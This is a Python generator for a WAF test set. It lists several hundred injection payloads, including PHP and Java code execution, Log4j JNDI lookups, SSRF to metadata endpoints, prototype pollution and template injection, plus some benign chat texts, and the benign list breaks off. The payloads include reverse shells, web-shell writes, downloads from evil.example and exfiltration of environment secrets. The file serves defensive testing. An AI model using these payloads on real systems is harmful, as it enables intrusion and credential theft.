"""Blind set "twentyninth": VOCABULARY BREADTH for PHP, Java, the generic families (Node.js, prototype
pollution, SSRF, Python / Ruby / Perl code execution) and server-side template injection.

The angle: a test suite for an injection family enumerates the words the family can use, one by one, in a
short canonical payload (one positive example per word, the way a rule author writes them), plus a second
shape with the usual syntax around it (separators, quotes, whitespace substitutes, comments, case, an
encoding). Breadth over depth: many different functions, classes, lookups, schemes, engines, each in 1-3
short shapes.

Families and sub-families:
- php: exec (system, exec, shell_exec, passthru, popen, proc_open, pcntl_exec, backticks, mail/putenv),
  code (eval, assert, create_function, preg_replace /e, call_user_func(_array), array_map / filter / walk,
  usort and friends, register_shutdown_function, reflection), file (file_get_contents, file_put_contents,
  fopen / fwrite, readfile, highlight_file, show_source, include / require, unlink, copy,
  move_uploaded_file, ...), enc (base64_decode, gzinflate, str_rot13, hex2bin, chr chains, escapes),
  info (phpinfo, getenv, ini_get / ini_set, posix_*), net (fsockopen, curl_exec, stream sockets), var
  (superglobals), wrap (php://, data://, expect://, phar://, zip://, glob://, compress.*://), tag (open
  tags), ser (serialized objects), varfunc (variable functions).
- java: runtime (Runtime, ProcessBuilder, class loaders, script engines, reflection, JNDI, JMX, Unsafe,
  gadget class names, XStream / XMLDecoder XML, serialized blobs), el (OGNL, SpEL, JSP / JSF EL, MVEL,
  JEXL), log4j (jndi with each protocol, the other lookups, nested obfuscation).
- generic: nodejs (child_process and its methods, fs, vm, process.*, require / import(), global, Function,
  eval), pollution (__proto__ / constructor.prototype in parameter names, paths and JSON), ssrf (internal
  hosts, metadata endpoints, odd schemes, encoded IPs), interp (Python, Ruby, Perl code execution).
- ssti: jinja (Jinja2 and Twig), freemarker, velocity, thymeleaf, smarty, mako, erb, other (Handlebars,
  Pug, Nunjucks, EJS, Tornado, Razor, Django).

Each payload goes to three places rotating through the MODEL's query / form / JSON / cookie / header, with
one of every three payloads moving its third place to /me/location's `place`, /oauth/token's `scope`, the
User-Agent, the Referer or a parameter NAME. Benign requests carry the same words innocently: developers
pasting commands and functions into Slack (each also saved as a profile bio), documentation links, prose,
file names and place names.

Authorship and independence: every payload and text was written for this file from general knowledge of
each family, without reading the repository's WAF rules, any ruleset or its regression tests, other
generators' payload or text lists, or any public payload list. The set is measured once on unchanged code
and never changed after seeing what the WAF blocks. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from .family_gen import _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, prose_request, three_places
from .records import print_records

NAME = "twentyninth"

PHP: dict[str, list[str]] = {
    "exec": [
        "system('id');",
        ";system(\"cat /etc/passwd\");",
        "exec('whoami');",
        "1;exec(\"ls -la /var/www\");//",
        "shell_exec('uname -a');",
        "echo shell_exec($_GET['c']);",
        "passthru('id');",
        "passthru /**/ ('cat /etc/hosts');",
        "popen('id', 'r');",
        "$h=popen(\"nc -e /bin/sh 10.0.0.5 4444\",\"r\");",
        "proc_open('id', array(0=>array('pipe','r')), $pipes);",
        "proc_open(\"bash -i\",$d,$p);",
        "pcntl_exec('/bin/sh', array('-c', 'id'));",
        "pcntl_fork();pcntl_exec(\"/usr/bin/id\");",
        "echo `id`;",
        "$o=`cat /etc/passwd`;echo $o;",
        "SYSTEM ( 'id' ) ;",
        "exec\t(\"wget http://evil.example/s.txt -O /tmp/s.php\");",
        "putenv('LD_PRELOAD=/tmp/x.so');mail('a@b.c','x','y');",
        "mail('a@b.c','s','m','','-X /var/www/html/log.php');",
        "dl('evil.so');",
        "ob_start('system');echo 'id';ob_end_flush();",
    ],
    "code": [
        "eval($_POST['c']);",
        "@eval(base64_decode($_REQUEST['z']));",
        "assert($_GET['a']);",
        "assert(\"system('id')\");",
        "create_function('', 'system(\"id\");');",
        "$f=create_function('$a','return eval($a);');$f($_POST[1]);",
        "preg_replace('/x/e', 'system(\"id\")', 'x');",
        "preg_replace(\"/.*/e\",$_GET['c'],\"\");",
        "call_user_func('system', 'id');",
        "call_user_func_array('passthru', array('id'));",
        "array_map('system', array('id'));",
        "array_filter(array('cat /etc/passwd'), 'system');",
        "array_walk($arr, 'passthru');",
        "usort($_GET, 'system');",
        "uasort($a, 'assert');",
        "uksort($_POST, 'exec');",
        "register_shutdown_function('passthru', 'id');",
        "register_tick_function('system', 'id');",
        "forward_static_call('system', 'id');",
        "array_reduce(array('id'), 'system');",
        "iterator_apply($it, 'system', array('id'));",
        "set_error_handler('system');trigger_error('id');",
        "spl_autoload_register('system');new id;",
        "mb_ereg_replace('.*', 'system(\"id\")', 'x', 'e');",
        "(new ReflectionFunction('system'))->invoke('id');",
    ],
    "file": [
        "file_get_contents('/etc/passwd');",
        "echo file_get_contents(\"../../../../wp-config.php\");",
        "file_put_contents('s.php', '<?php system($_GET[c]); ?>');",
        "file_put_contents(\"/var/www/html/x.php\",base64_decode($_POST['d']));",
        "fopen('/etc/shadow', 'r');",
        "$h=fopen('x.php','w');fwrite($h,$_POST['d']);fclose($h);",
        "fputs(fopen('shell.php','w'),'<?php eval($_POST[1]);?>');",
        "readfile('../../config.php');",
        "highlight_file('index.php');",
        "show_source(\"/var/www/html/.env\");",
        "include('http://evil.example/x.txt');",
        "include $_GET['p'];",
        "require('/etc/passwd');",
        "require_once '../../../etc/passwd';",
        "include_once($_REQUEST['f']);",
        "unlink('.htaccess');",
        "copy('http://evil.example/s.txt', 's.php');",
        "move_uploaded_file($_FILES['f']['tmp_name'], 'shell.php');",
        "print_r(file('/etc/hosts'));",
        "print_r(scandir('/'));",
        "var_dump(glob('/var/www/*'));",
        "fpassthru(fopen('/etc/passwd','r'));",
        "parse_ini_file('/etc/php/8.2/fpm/php.ini');",
        "symlink('/etc/passwd', 'p.txt');",
        "chmod('shell.php', 0777);",
        "new SplFileObject('/etc/passwd');",
    ],
    "enc": [
        "base64_decode('c3lzdGVtKCdpZCcpOw==');",
        "eval(base64_decode(\"ZWNobyBzaGVsbF9leGVjKCdpZCcpOw==\"));",
        "eval(gzinflate(base64_decode('S0lNzlBPSS1OzVdXLwYA')));",
        "gzuncompress(base64_decode($_POST['x']));",
        "eval(gzdecode($d));",
        "str_rot13('flfgrz')('id');",
        "eval(str_rot13('flfgrz(\"vq\");'));",
        "hex2bin('73797374656d')('id');",
        "pack('H*','73797374656d')('id');",
        "chr(115).chr(121).chr(115).chr(116).chr(101).chr(109)",
        "$f=chr(101).chr(120).chr(101).chr(99);$f('id');",
        "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"('id');",
        "strrev('metsys')('id');",
        "convert_uudecode($_GET['u']);",
        "implode('', array('sys','tem'))('id');",
        "eval(urldecode('%73%79%73%74%65%6d%28%27%69%64%27%29%3b'));",
    ],
    "info": [
        "phpinfo();",
        "<?php phpinfo(); ?>",
        "echo getenv('DB_PASSWORD');",
        "getenv(\"AWS_SECRET_ACCESS_KEY\")",
        "ini_get('disable_functions');",
        "ini_set('allow_url_include', '1');",
        "ini_set(\"open_basedir\",\"/\");",
        "posix_getpwuid(posix_geteuid());",
        "posix_uname();",
        "posix_kill(1, 9);",
        "posix_setuid(0);",
        "echo get_current_user();",
        "echo php_uname('a');",
        "var_dump(get_defined_vars());",
        "print_r($_SERVER);",
        "var_dump($GLOBALS);",
        "set_time_limit(0);ignore_user_abort(1);",
    ],
    "net": [
        "fsockopen('10.0.0.5', 4444);",
        "$s=fsockopen(\"evil.example\",80);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
        "curl_exec(curl_init('http://169.254.169.254/latest/meta-data/'));",
        "$c=curl_init($_GET['u']);curl_exec($c);",
        "stream_socket_client('tcp://10.0.0.5:4444');",
        "socket_create(AF_INET, SOCK_STREAM, SOL_TCP);socket_connect($s,'10.0.0.5',4444);",
        "pfsockopen(\"udp://10.0.0.5\", 53);",
    ],
    "var": [
        "$_GET['cmd']",
        "${_GET}[cmd]",
        "$_POST[0]",
        "$_REQUEST['x']",
        "$_COOKIE['c']",
        "$_SERVER['HTTP_USER_AGENT']",
        "$_FILES['f']['tmp_name']",
        "$GLOBALS['_GET']",
        "$_ENV['PATH']",
        "$HTTP_RAW_POST_DATA",
        "$_SESSION['admin']=1;",
        "$HTTP_GET_VARS['x']",
        "${'_GE'.'T'}['c']",
        "echo $_SERVER['DOCUMENT_ROOT'];",
    ],
    "wrap": [
        "php://input",
        "php://filter/read=convert.base64-encode/resource=config.php",
        "php://filter/convert.iconv.utf-8.utf-16/resource=index.php",
        "PHP://filter/string.toupper/resource=/etc/passwd",
        "php://stdin",
        "php://fd/0",
        "php://temp",
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
        "data://text/plain,<?php phpinfo()?>",
        "data:text/plain,<?php system($_GET['c']);?>",
        "expect://whoami",
        "expect://cat%20/etc/passwd",
        "phar://uploads/avatar.jpg/shell.php",
        "phar:///tmp/x.phar/test.txt",
        "zip://uploads/a.zip%23s.php",
        "zip:///var/www/uploads/doc.zip#x.php",
        "glob:///etc/*",
        "compress.zlib:///etc/passwd",
        "compress.bzip2://../../config.php",
        "ssh2.exec://user:pass@10.0.0.5:22/id",
        "rar://uploads/a.rar#s.php",
        "ogg://../../etc/passwd",
    ],
    "tag": [
        "<?php system('id');?>",
        "<?php\n eval($_POST['x']);",
        "<?= `id` ?>",
        "<?=shell_exec($_GET[0])?>",
        "<? passthru('id') ?>",
        "<?PhP echo file_get_contents('/etc/passwd');",
        "<script language=\"php\">system('id');</script>",
        "GIF89a<?php system($_GET['c']); ?>",
    ],
    "ser": [
        "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
        "O:+4:\"Evil\":1:{s:3:\"cmd\";s:2:\"id\";}",
        "a:2:{i:0;s:4:\"test\";i:1;O:4:\"Evil\":0:{}}",
        "a:1:{s:4:\"cmd\";s:6:\"whoami\";}",
        "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}",
        "O:24:\"GuzzleHttp\\Psr7\\FnStream\":2:{s:33:\"\u0000GuzzleHttp\\Psr7\\FnStream\u0000methods\";a:1:{s:5:\"close\";s:7:\"phpinfo\";}s:9:\"_fn_close\";s:7:\"phpinfo\";}",
        "O:21:\"Monolog\\Handler\\Buffer\":0:{}",
        "Tzo4OiJzdGRDbGFzcyI6MDp7fQ==",
    ],
    "varfunc": [
        "$a='sys'.'tem';$a('id');",
        "$_GET[0]($_GET[1]);",
        "${'_POST'}['f']($_POST['a']);",
        "$f=$_GET['f'];$f();",
        "'system'('id');",
        "('sy'.'stem')(\"whoami\");",
        "$x=strrev('tressa');$x($_POST['p']);",
        "$$v='system';$system('id');",
        "[$x='passthru'][0]('id');",
        "$_REQUEST['a']($_REQUEST['b'])",
    ],
}

JAVA: dict[str, list[str]] = {
    "runtime": [
        "Runtime.getRuntime().exec(\"id\")",
        "java.lang.Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"id\"})",
        "new ProcessBuilder(\"id\").start()",
        "new java.lang.ProcessBuilder(new String[]{\"bash\",\"-c\",\"cat /etc/passwd\"}).start()",
        "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"Exploit\")",
        "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://evil.example/x.jar\")})"
        ".loadClass(\"Exploit\").newInstance()",
        "new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"java.lang.Runtime.getRuntime()"
        ".exec('id')\")",
        "new ScriptEngineManager().getEngineByName(\"nashorn\").eval(request.getParameter(\"c\"))",
        "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)",
        "Class.forName(\"java.lang.Runtime\").getDeclaredMethod(\"exec\",String.class).setAccessible(true)",
        "new javax.naming.InitialContext().lookup(\"ldap://evil.example:1389/Exploit\")",
        "javax.management.loading.MLet",
        "new javax.management.remote.JMXServiceURL(\"service:jmx:rmi:///jndi/rmi://evil.example:1099/jmxrmi\")",
        "sun.misc.Unsafe.getUnsafe().allocateInstance(Runtime.class)",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
        "org.apache.commons.collections.functors.InvokerTransformer",
        "new ChainedTransformer(new Transformer[]{new ConstantTransformer(Runtime.class)})",
        "org.apache.commons.collections4.functors.InstantiateTransformer",
        "org.apache.commons.beanutils.BeanComparator",
        "org.codehaus.groovy.runtime.MethodClosure",
        "org.springframework.beans.factory.ObjectFactory",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example/x\","
        "\"autoCommit\":true}",
        "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"rmi://evil.example:1099/x\"}]",
        "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler "
        "class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id"
        "</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>",
        "<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id"
        "</string></void></object></java>",
        "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"
        "<array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array>"
        "<void method=\"start\"/></object></java>",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
        "aced0005737200116a6176612e7574696c2e48617368536574",
        "java.lang.System.exit(0)",
        "new java.io.FileInputStream(\"/etc/passwd\")",
        "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/etc/passwd\"))",
        "groovy.lang.GroovyShell().evaluate(\"'id'.execute()\")",
        "\"id\".execute().text",
    ],
    "el": [
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
        "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
        "${#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS}",
        "%{@java.lang.System@getProperty('user.dir')}",
        "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())",
        "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"whoami\"})).start()}",
        "%{#request['struts.valueStack']}",
        "#session.user.password",
        "%{#application}",
        "T(java.lang.Runtime).getRuntime().exec('id')",
        "#{T(java.lang.System).getenv()}",
        "${T(java.lang.Thread).sleep(10000)}",
        "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()",
        "#{''.getClass().forName('java.lang.Runtime').getMethods()[6]}",
        "${applicationScope}",
        "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
        "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)}",
        "#{facesContext.externalContext.redirect(\"http://evil.example\")}",
        "${sessionScope}",
        "${initParam}",
        "${header['cookie']}",
        "#{request.getClass().getClassLoader()}",
        "@{java.lang.Runtime.getRuntime().exec('id')}",
        "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
        "${''.getClass().forName('java.lang.ProcessBuilder')}",
    ],
    "log4j": [
        "${jndi:ldap://evil.example/a}",
        "${jndi:ldaps://evil.example:636/a}",
        "${jndi:rmi://evil.example:1099/a}",
        "${jndi:dns://evil.example/a}",
        "${jndi:iiop://evil.example/a}",
        "${jndi:corba://evil.example/a}",
        "${jndi:nds://evil.example/a}",
        "${jndi:nis://evil.example/a}",
        "${jndi:http://evil.example/a}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "${sys:user.name}",
        "${java:version}",
        "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://evil.example/a}",
        "${${upper:j}ndi:rmi://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
        "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://evil.example/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
        "${j${k8s:k5:-ND}i:ldap://evil.example/a}",
        "${date:yyyy}${jndi:dns://evil.example/a}",
        "${main:0}",
        "${ctx:loginId}",
        "${bundle:application:spring.datasource.password}",
        "${hostName}.${env:USER}.evil.example",
        "${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}",
        "%24%7Bjndi:ldap://evil.example/a%7D",
        "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
    ],
}

GENERIC: dict[str, list[str]] = {
    "nodejs": [
        "require('child_process').exec('id')",
        "require(\"child_process\").execSync(\"cat /etc/passwd\").toString()",
        "child_process.spawn('sh', ['-c', 'id'])",
        "require('child_process').spawnSync('id')",
        "require('child_process').execFile('/bin/sh', ['-c', 'id'])",
        "require('child_process').execFileSync('whoami')",
        "require('child_process').fork('/tmp/x.js')",
        "require('fs').readFileSync('/etc/passwd', 'utf8')",
        "require('fs').writeFileSync('/tmp/x.js', 'process.exit()')",
        "require('fs').readdirSync('/')",
        "fs.unlinkSync('/app/.env')",
        "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')",
        "vm.runInThisContext(\"process.mainModule.require('child_process').execSync('id')\")",
        "process.mainModule.require('child_process').execSync('id')",
        "process.binding('spawn_sync').spawn({file:'id'})",
        "JSON.stringify(process.env)",
        "process.exit(1)",
        "process.kill(process.pid)",
        "global.process.mainModule.constructor._load('child_process').exec('id')",
        "import('child_process').then(m=>m.execSync('id'))",
        "new Function('return process')().mainModule.require('fs')",
        "Function('return this')().process.exit()",
        "eval('require(\"child_process\").exec(\"id\")')",
        "setTimeout('process.exit()', 0)",
        "this.constructor.constructor('return process')()",
        "require('http').get('http://evil.example/?d='+process.env.SECRET)",
        "require('net').connect(4444, '10.0.0.5', function(){})",
        "module.constructor._load('child_process')",
        "globalThis.process.mainModule.require('os').userInfo()",
        "res.end(require('fs').readFileSync('/etc/passwd'))",
        "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://100.100.100.200/latest/meta-data/",
        "http://127.0.0.1:6379/",
        "http://localhost:2375/containers/json",
        "http://0.0.0.0:22/",
        "http://[::1]:8080/admin",
        "http://[::ffff:127.0.0.1]/",
        "http://2130706433/",
        "http://0x7f000001/",
        "http://017700000001/",
        "http://127.1/server-status",
        "http://0/",
        "http://10.0.0.1/admin",
        "http://192.168.0.1/cgi-bin/",
        "http://172.17.0.1:2375/version",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "dict://127.0.0.1:11211/stats",
        "file:///etc/passwd",
        "ldap://127.0.0.1:389/dc=example",
        "tftp://evil.example/x",
        "sftp://evil.example:11111/",
        "jar:http://evil.example/x.jar!/",
        "netdoc:///etc/passwd",
        "http://169.254.169.254.nip.io/",
        "http://evil.example@127.0.0.1/",
        "http://127.0.0.1#@evil.example/",
        "http://[0:0:0:0:0:ffff:a9fe:a9fe]/",
        "http://instance-data/latest/meta-data/",
        "https://kubernetes.default.svc/api/v1/namespaces/default/secrets",
        "http://169.254.170.2/v2/credentials",
    ],
    "interp": [
        "__import__('os').system('id')",
        "os.system('id')",
        "os.popen('cat /etc/passwd').read()",
        "subprocess.check_output(['id'])",
        "subprocess.Popen('id', shell=True)",
        "subprocess.call(\"whoami\", shell=True)",
        "eval(\"__import__('os').system('id')\")",
        "exec(\"import os;os.system('id')\")",
        "pickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")",
        "cos\nsystem\n(S'id'\ntR.",
        "getattr(__import__('os'), 'system')('id')",
        "importlib.import_module('os').system('id')",
        "open('/etc/passwd').read()",
        "Kernel.system('id')",
        "IO.popen('id').read",
        "%x(id)",
        "Kernel.exec('/bin/sh')",
        "Open3.capture2('id')",
        "eval(params[:code])",
        "send(:system, 'id')",
        "Marshal.load(Base64.decode64(params[:d]))",
        "--- !ruby/object:Gem::Installer\ni: x",
        "open(F, \"|id\");",
        "open(my $fh, \"cat /etc/passwd|\");",
        "system(\"id\");exec \"/bin/sh\";",
        "qx{id}",
        "perl -e 'exec \"/bin/sh\"'",
        "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));",
    ],
}

SSTI: dict[str, list[str]] = {
    "jinja": [
        "{{7*7}}",
        "{{config}}",
        "{{config.items()}}",
        "{{self.__dict__}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{ ''.__class__.__base__.__subclasses__() }}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{joiner.__init__.__globals__.os.popen('id').read()}}",
        "{{lipsum.__globals__['os'].popen('id').read()}}",
        "{{namespace.__init__.__globals__.os.popen('whoami').read()}}",
        "{{url_for.__globals__}}",
        "{{get_flashed_messages.__globals__['current_app'].config}}",
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
        "{{()|attr('__class__')|attr('__base__')}}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
        "{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}",
        "{% import os %}{{os.system('id')}}",
        "{{ config.__class__.__init__.__globals__['os'].popen('ls').read() }}",
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "{{['id']|filter('system')}}",
        "{{['id']|map('passthru')}}",
        "{{['cat /etc/passwd']|reduce('system')}}",
        "{{[\"id\"]|sort(\"system\")}}",
        "{{ app.request.server.all|join(',') }}",
        "{{ '/etc/passwd'|file_excerpt(1,30) }}",
    ],
    "freemarker": [
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\","
        "\"id\").start()}",
        "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
        "<#assign classloader=object?api.class.protectionDomain.classLoader>",
        "${product.getClass().getProtectionDomain().getCodeSource().getLocation()}",
        "${.data_model}",
        "<#assign x=\"freemarker.template.utility.JythonRuntime\"?new()><@x>import os;os.system('id')</@x>",
    ],
    "velocity": [
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
        "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\").waitFor()",
        "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")",
        "#set ($str=$class.inspect(\"java.lang.String\").type)",
        "$request.getClass().getClassLoader()",
        "#set($p=$x.class.forName('java.lang.ProcessBuilder'))",
    ],
    "thymeleaf": [
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
        "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
        "__*{T(java.lang.System).getenv()}__::x",
        "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
        "__|${7*7}|__::.x",
    ],
    "smarty": [
        "{php}system('id');{/php}",
        "{system('id')}",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\","
        "self::clearConfig())}",
        "{$smarty.version}",
        "{if system('id')}{/if}",
        "{fetch file='/etc/passwd'}",
        "{passthru(\"cat /etc/passwd\")}",
    ],
    "mako": [
        "<% import os; x=os.popen('id').read() %>${x}",
        "${self.module.cache.util.os.system('id')}",
        "<%! import os %>${os.system('id')}",
        "${self.template.module.runtime.util.os.popen('id').read()}",
    ],
    "erb": [
        "<%= system('id') %>",
        "<%= `id` %>",
        "<%= File.open('/etc/passwd').read %>",
        "<%= IO.popen('id').readlines() %>",
        "<%= Dir.entries('/') %>",
        "<%= ENV.inspect %>",
    ],
    "other": [
        "{{#with this}}{{lookup this.constructor \"constructor\"}}{{/with}}",
        "{{constructor.constructor('return process')()}}",
        "#{global.process.mainModule.require('child_process').execSync('id')}",
        "- var x = root.process.mainModule.require('child_process').execSync('id')",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "<%= global.process.mainModule.require('child_process').execSync('id') %>",
        "{% import os %}{{ os.popen('id').read() }}",
        "{{handler.settings}}",
        "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
        "@{ System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\"); }",
        "{{settings.SECRET_KEY}}",
        "{% debug %}",
        "${{<%[%'\"}}%\\.",
        "{{= global.process.env }}",
    ],
}

# Prototype pollution: in parameter names (query, form), in paths and in JSON documents.
POLLUTION_NAMES = [
    "__proto__[admin]",
    "__proto__[isAdmin]",
    "__proto__.polluted",
    "constructor[prototype][isAdmin]",
    "constructor.prototype.role",
    "a[__proto__][b]",
    "__proto__[toString]",
    "user[constructor][prototype][admin]",
    "__proto__[shell]",
    "__proto__[NODE_OPTIONS]",
]
POLLUTION_JSON: list[Any] = [
    {"__proto__": {"isAdmin": True}},
    {"constructor": {"prototype": {"isAdmin": True}}},
    {"a": {"__proto__": {"shell": "/proc/self/exe", "argv0": "console.log(1)//"}}},
    {"name": "x", "__proto__": {"NODE_OPTIONS": "--require /proc/self/environ"}},
    {"settings": {"constructor": {"prototype": {"polluted": "yes"}}}},
    {"__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');x"}},
    {"profile": {"__proto__": {"role": "admin"}}},
    {"__proto__": {"toString": "x"}},
]
POLLUTION_PATHS = [
    "/api/users/__proto__/admin",
    "/api/users/constructor/prototype/isAdmin",
    "/api/users?filter[__proto__][admin]=1",
    "/api/users?q=x&__proto__.isAdmin=true",
]

FAMILIES: dict[str, dict[str, list[str]]] = {"php": PHP, "java": JAVA, "generic": GENERIC, "ssti": SSTI}
PARAMS = ["q", "name", "data", "search", "template", "file", "cmd", "url", "code", "callback"]
EXTRA = ["me", "oauth", "ua", "referer", "argname"]


def _hdr(value: str) -> str:
    return value.replace("\r", " ").replace("\n", " ")


def _extra(place: str, name: str, value: str) -> dict[str, Any]:
    """The places beyond the MODEL's five: /me/location's place, /oauth/token's scope, User-Agent, Referer,
    and the payload as a query parameter's NAME."""
    if place == "me":
        return _form("/me/location", [("csrf_token", "t0k3n"), ("place", value)])
    if place == "oauth":
        return _form("/oauth/token", [("grant_type", "client_credentials"), ("client_id", "svc-reports"),
                                      ("client_secret", "s3cr3t-value-0001"), ("scope", value)])
    if place == "ua":
        rec = _get("/api/users?page=1")
        return {**rec, "headers": {**rec["headers"], "User-Agent": _hdr(value)}}
    if place == "referer":
        rec = _get("/api/users?page=1")
        return {**rec, "headers": {**rec["headers"], "Referer": _hdr(value)}}
    return _get(_query("/api/users", [(value, "1"), ("page", "1")]))


def places(i: int) -> list[tuple[str, str]]:
    """Three places for the i-th payload: the MODEL's rotation, the third moved to an EXTRA place for one
    payload in three."""
    out = three_places(i, PARAMS)
    if i % 3 == 0:
        out[2] = (EXTRA[(i // 3) % len(EXTRA)], out[2][1])
    return out


def _record(place: str, name: str, value: str) -> dict[str, Any]:
    if place in EXTRA:
        return _extra(place, name, value)
    return _place(place, name, value)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    i = 0
    for family, subs in FAMILIES.items():
        for sub, payloads in subs.items():
            for p in payloads:
                for place, name in places(i):
                    n += 1
                    yield {**_record(place, name, p), "id": f"{NAME}-{family}-{sub}-{n:04d}",
                           "category": family, "sub": sub, "placement": place, "payload": p}
                i += 1
    for name in POLLUTION_NAMES:
        for place, rec in (("query", _get(_query("/api/users", [(name, "true"), ("page", "1")]))),
                           ("form", _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, "1")])),
                           ("argname", _get("/api/users?" + name + "=1"))):
            n += 1
            yield {**rec, "id": f"{NAME}-generic-pollution-{n:04d}", "category": "generic", "sub": "pollution",
                   "placement": place, "payload": name}
    for doc in POLLUTION_JSON:
        for uri in ("/api/users", "/api/users/42", "/admin/users/search"):
            n += 1
            yield {**_json(uri, doc), "id": f"{NAME}-generic-pollution-{n:04d}", "category": "generic",
                   "sub": "pollution", "placement": "json", "payload": json.dumps(doc)}
    for path in POLLUTION_PATHS:
        n += 1
        yield {**_get(path), "id": f"{NAME}-generic-pollution-{n:04d}", "category": "generic",
               "sub": "pollution", "placement": "path", "payload": path}


# Benign: the same words, innocently.
SLACK_TEXTS = [
    "heads up: the legacy admin still calls system() for the PDF export, ticket OPS-412 replaces it",
    "php 8.3 removed a few deprecated functions, run phpstan before merging",
    "can someone review my PR? it swaps exec for a queue job",
    "shell_exec is disabled in our php.ini via disable_functions, as it should be",
    "passthru vs system in PHP: one streams output, the other returns the last line",
    "we still use popen in the old CLI importer, it's fine, no user input there",
    "proc_open is what Symfony Process uses under the hood",
    "eval is evil, said every code review ever",
    "the assert statements in tests are fine, in prod code less so",
    "create_function was removed in PHP 8, the linter will complain",
    "array_map with a closure reads better than a foreach here",
    "usort with the spaceship operator sorts users by last name",
    "register_shutdown_function flushes the metrics buffer at the end of each request",
    "file_get_contents on a URL is blocked by allow_url_fopen=Off, use Guzzle",
    "readfile streams the invoice PDF to the browser",
    "the include path in composer's autoload is generated, don't edit it",
    "base64_decode the webhook secret before comparing, it's stored encoded",
    "phpinfo page is only on the dev box, not on staging",
    "getenv('APP_ENV') returns production on the workers",
    "the $_SERVER array has REQUEST_URI, that's what the router reads",
